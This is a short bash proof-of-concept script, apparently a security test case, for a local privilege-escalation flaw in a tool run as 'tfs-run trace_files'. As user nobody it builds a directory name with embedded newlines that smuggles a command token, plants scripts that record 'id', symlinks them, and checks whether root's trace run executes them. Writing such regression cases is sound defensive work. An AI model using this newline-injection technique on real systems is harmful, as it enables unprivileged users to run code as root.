#!/bin/bash
# SPDX-License-Identifier: ISC
# shellcheck disable=SC2016 # for the other shell
# readlink-newline.sh CO: a link of an unprivileged user makes trace_files run a program of his as root
# CO: a built checkout; run as root
CO=$1; export PATH=$CO/bin:$PATH TFS_RUNDIR=${TFS_RUNDIR:-/run/tfs-case}
u=$(mktemp -d /tmp/ruXXXXXX); chown nobody "$u"; chmod 755 "$u"
# what an unprivileged user can do: a directory whose name has newlines, a program, and a link
setpriv --reuid nobody --clear-groups sh -c '
u=$1
d="$u/x
|
sigwait-run
"
mkdir -p "$d$u"
printf "#!/bin/sh\nid >/proof.$$\nid; echo RAN-AS-ROOT\n" >"$d$u/p"
printf "#!/bin/sh\nid >%s/proof\necho RAN: \$(id)\n" "$u" >"$u/p"
chmod 755 "$u/p" "$d$u/p"
ln -s "$d$u/p" "$u/log"
' sh "$u"
ls -ld "$u/log"
# what root does
timeout 30 tfs-run trace_files --all --path "$u/log" --time 1s
echo "status $?"
cat "$u/proof" 2>/dev/null && echo "code of nobody ran as root" || echo "no proof"
rm -rf "$u"
